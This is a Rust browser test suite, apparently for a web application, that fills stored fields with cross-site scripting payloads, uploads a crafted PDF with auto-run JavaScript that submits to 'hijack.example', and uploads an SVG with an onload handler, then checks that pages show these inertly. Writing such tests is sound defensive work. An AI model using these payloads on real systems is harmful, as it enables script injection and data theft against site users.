//! Hostile words in a house full of them, a hostile PDF and a hostile drawing, before a real browser:
//! nothing that is in them happens, and what they are is shown.

#[path = "browser/house.rs"]
#[allow(dead_code, reason = "shared with the tour, which uses all of it")]
mod house;
mod running;

use house::{DESK, House, browser_is_there};
use running::{CLERK, Line};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use thirtyfour::prelude::*;

/// Words of which a browser would do something.
const WORDS: &[&str] = &[
    "\"><script>hijack()</script>",
    "'\"><img src=x onerror=hijack()>",
    "javascript:hijack()",
    "</title></textarea></script></style><svg onload=hijack()>",
    "a\" autofocus onfocus=\"hijack()",
];

/// Runs a test and closes the browser however it ends.
async fn before_a_browser<F>(walk: impl FnOnce(Arc<House>) -> F)
where
    F: Future<Output = WebDriverResult<()>> + Send + 'static,
{
    if !browser_is_there() {
        return;
    }
    let house = Arc::new(House::open(DESK).await);
    let outcome = tokio::spawn(walk(Arc::clone(&house))).await;
    if let Ok(house) = Arc::try_unwrap(house) {
        house.close().await;
    }
    outcome.expect("nobody panics").expect("the browser does as it is told");
}

fn line(house: &House) -> Line {
    let address = house.url.strip_prefix("http://").expect("a house").parse().expect("an address");
    let mut line = Line::open(address).expect("it answers");
    line.sign_in(CLERK).expect("the clerk is let in");
    line
}

/// Every place of a value where a text stands, as JSON pointers.
fn places(value: &Value, place: &str, all: &mut Vec<String>) {
    match value {
        Value::String(_) => all.push(place.to_owned()),
        Value::Array(values) => {
            for (at, value) in values.iter().enumerate() {
                places(value, &format!("{place}/{at}"), all);
            }
        }
        Value::Object(fields) => {
            for (name, value) in fields {
                places(value, &format!("{place}/{name}"), all);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Amends whatever the clerk may amend, field by field, and gives how often that was taken.
fn spoil(line: &mut Line) -> usize {
    let links = line.get("/api/v1").expect("links").json();
    let kinds = links["things"].as_object().cloned().expect("the kinds there are");
    let mut taken = 0;
    for kind in kinds.values().filter_map(Value::as_str) {
        let list = line.get(&format!("{kind}?limit=6")).expect("a list").json();
        for thing in list["things"].as_array().cloned().unwrap_or_default() {
            let mut content = thing["content"].clone();
            let mut all = Vec::new();
            places(&content, "", &mut all);
            for (number, place) in all.iter().enumerate() {
                let mut said = content.clone();
                let words = WORDS[(taken + number) % WORDS.len()];
                *said.pointer_mut(place).expect("it was there") = format!("{words} {taken}").into();
                let command =
                    json!({ "subject": thing["id"], "change": { "amend": { "content": said } } });
                let reply = line.act(
                    &format!("{taken}-{number}-{}", thing["id"].as_str().unwrap_or("x")),
                    &command,
                );
                if reply.expect("an answer").status == 201 {
                    content = said;
                    taken += 1;
                }
            }
        }
    }
    taken
}

/// Addresses of pages, from page to page: a few of each sort.
fn pages(line: &mut Line) -> Vec<String> {
    let (mut seen, mut waiting) = (BTreeSet::new(), vec!["/".to_owned()]);
    let mut sorts: BTreeMap<String, usize> = BTreeMap::new();
    let mut pages = Vec::new();
    while let Some(address) = waiting.pop() {
        let sort: Vec<&str> = address.split(['/', '?', '#']).skip(1).step_by(2).collect();
        let times = sorts.entry(sort.join("/")).or_default();
        *times += 1;
        if *times > 3 || pages.len() >= 90 {
            continue;
        }
        let reply = line.get(&address).expect("an answer");
        let html = reply.header("content-type").is_some_and(|kind| kind.starts_with("text/html"));
        if !html || reply.status != 200 {
            continue;
        }
        for link in reply.text().split("href=\"").skip(1) {
            let link = link.split(['"', '#']).next().unwrap_or_default().replace("&amp;", "&");
            if link.starts_with('/') && !link.starts_with("/assets/") && seen.insert(link.clone()) {
                waiting.insert(0, link);
            }
        }
        pages.push(address);
    }
    pages
}

/// What is on the page at hand that only hostile words can have brought.
const BROUGHT: &str = r#"
    const wrong = [];
    for (const element of document.querySelectorAll('*')) {
        if (element.localName.includes('hijack')) wrong.push(element.outerHTML);
        for (const attribute of element.attributes) {
            const address = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute.name);
            if (attribute.name.startsWith('on') || attribute.name.includes('hijack')
                || (address && /^\s*(javascript|data|vbscript):/i.test(attribute.value)))
                wrong.push(attribute.name + '=' + attribute.value);
        }
    }
    for (const script of document.scripts) if (!script.src.startsWith(location.origin + '/assets/')) wrong.push(script.outerHTML);
    return [wrong, (document.body.innerText.match(/hijack/g) || []).length];
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_house_full_of_hostile_words_shows_them_and_does_nothing_of_what_they_say() {
    before_a_browser(|house| async move {
        let mut clerk = line(&house);
        let taken = spoil(&mut clerk);
        assert!(taken > 50, "only {taken} fields took the words");
        house.be("Clerk of a lead state").await?;
        drop(house.complaints().await?);
        let (mut wrong, mut shown, pages) = (Vec::new(), 0, pages(&mut clerk));
        for page in &pages {
            house.go(page).await?;
            if let Ok(text) = house.driver.get_alert_text().await {
                wrong.push(format!("{page}: it asks {text:?}"));
                house.driver.dismiss_alert().await?;
            }
            let told = house.driver.execute(BROUGHT, vec![]).await?;
            let (brought, words): (Vec<String>, usize) = told.convert()?;
            shown += words;
            wrong.extend(brought.into_iter().map(|what| format!("{page}: {what}")));
            let complaints = house.complaints().await?;
            wrong.extend(complaints.into_iter().map(|what| format!("{page}: {what}")));
        }
        println!("{taken} fields took the words; {} pages show them {shown} times", pages.len());
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
        assert!(pages.len() > 40 && shown > 100, "{} pages, {shown} times", pages.len());
        Ok(())
    })
    .await;
}

/// A PDF of one page that is red all over and has a link that is a script; and that asks its reader's
/// program to run further ones, if `asks`.
fn red_pdf(asks: bool) -> Vec<u8> {
    let objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R>>>>".to_owned(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Contents 4 0 R/Annots[6 0 R]/AA<</O 5 0 R>>>>".to_owned(),
        "<</Length 27>>stream\n1 0 0 rg 0 0 600 600 re f \nendstream".to_owned(),
        if asks {
            "<</S/JavaScript/JS(app.alert\\('hijack'\\);this.submitForm\\('https://hijack.example/'\\))>>"
        } else {
            "<</S/GoTo/D[3 0 R/Fit]>>"
        }
        .to_owned(),
        "<</Type/Annot/Subtype/Link/Rect[0 0 600 600]/A<</S/URI/URI(javascript:hijack\\(\\))>>>>".to_owned(),
    ];
    let mut file = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        places.push(file.len());
        file.extend(format!("{} 0 obj{object}endobj\n", number + 1).bytes());
    }
    let table = file.len();
    file.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        file.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let end =
        format!("trailer<</Size {}/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n", objects.len() + 1);
    file.extend(end.bytes());
    file
}

/// A red dot, as a PNG.
const RED_DOT: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\x0cIDATx\x9cc\xf8\xcf\xc0\0\0\x03\x01\x01\0\xc9\xfe\x92\xef\0\0\0\0IEND\xaeB`\x82";

/// A document of the clerk's with one version, or the status with which that is refused.
fn document(line: &mut Line, name: &str, bytes: &[u8]) -> Result<(String, String), u16> {
    let said = json!({ "document": { "title": name, "reading": "download" } });
    let command =
        json!({ "change": { "create": { "content": said, "marking": { "label": "GREEN" } } } });
    let made = line.act(name, &command).expect("an answer").json();
    let document = made["subject"].as_str().expect("an id").to_owned();
    let headers = [("content-type", "application/octet-stream")];
    let address = format!("/api/v1/documents/{document}/versions?name={name}");
    let reply = line.ask("POST", &address, &headers, bytes).expect("an answer");
    if reply.status != 201 {
        return Err(reply.status);
    }
    let version = reply.json()["version"].as_str().expect("an id").to_owned();
    Ok((document, version))
}

/// Which share of the window is red, in percent, by a picture of it that the browser reads itself.
async fn redness(house: &House) -> WebDriverResult<i64> {
    let picture = house.driver.screenshot_as_png_base64().await?;
    let script = "const [picture, done] = arguments;
        const bytes = Uint8Array.from(atob(picture), letter => letter.charCodeAt(0));
        createImageBitmap(new Blob([bytes], { type: 'image/png' })).then(image => {
            const canvas = new OffscreenCanvas(image.width, image.height);
            const pen = canvas.getContext('2d');
            pen.drawImage(image, 0, 0);
            const points = pen.getImageData(0, 0, image.width, image.height).data;
            let red = 0;
            for (let at = 0; at < points.length; at += 4)
                if (points[at] > 200 && points[at + 1] < 60 && points[at + 2] < 60) red += 1;
            done(Math.round(400 * red / points.length));
        }, failed => done(-1));";
    house.driver.execute_async(script, vec![picture.into()]).await?.convert()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pdf_and_a_picture_are_shown_and_run_nothing_and_a_drawing_is_not_taken() {
    before_a_browser(|house| async move {
        let mut clerk = line(&house);
        for drawing in [
            "<svg xmlns='http://www.w3.org/2000/svg' onload='hijack()'/>",
            "<?xml version='1.0'?><svg/>",
            "\u{feff} <html>",
        ] {
            assert_eq!(
                document(&mut clerk, "drawing.png", drawing.as_bytes()),
                Err(415),
                "{drawing}"
            );
        }
        let (paper, version) =
            document(&mut clerk, "red.pdf", &red_pdf(false)).expect("a PDF is taken");
        let (dot, of_dot) = document(&mut clerk, "dot.png", RED_DOT).expect("a picture is taken");
        let (asking, its) =
            document(&mut clerk, "asking.pdf", &red_pdf(true)).expect("it is taken");
        house.be("Clerk of a lead state").await?;
        drop(house.complaints().await?);
        house.go(&format!("/documents/{asking}")).await?;
        house.follow("Open").await?;
        house.says("download it").await;
        assert!(house.driver.get_alert_text().await.is_err(), "the PDF has asked something");
        assert!(redness(&house).await? < 2, "{its} is shown");

        house.go(&format!("/documents/{paper}")).await?;
        house.follow("Open").await?;
        // The viewer begins to paint when it is ready.
        let mut red = 0;
        for _ in 0..100 {
            red = redness(&house).await?;
            if red > 10 {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        house.picture("pdf-inline").await?;
        assert!(red > 10, "{red} % of the window are red: the PDF is not shown");
        assert!(house.driver.get_alert_text().await.is_err(), "the PDF has asked something");
        let here = house.driver.current_url().await?;
        assert!(here.path().ends_with("/inline"), "{here}");

        house.go(&format!("/documents/{dot}/versions/{of_dot}/shown")).await?;
        let wide = "return document.querySelector('main img').naturalWidth";
        assert_eq!(house.driver.execute(wide, vec![]).await?.convert::<i64>()?, 1);
        house.go(&format!("/documents/{dot}/versions/{of_dot}/inline")).await?;
        let wide = "return document.images[0].naturalWidth";
        assert_eq!(house.driver.execute(wide, vec![]).await?.convert::<i64>()?, 1);
        house.go(&format!("/documents/{paper}/versions/{version}/shown")).await?;
        house
            .says(if cfg!(feature = "pages") { "Page 1 of 1" } else { "can only be downloaded" })
            .await;
        assert!(house.driver.get_alert_text().await.is_err(), "the PDF has asked something");
        Ok(())
    })
    .await;
}
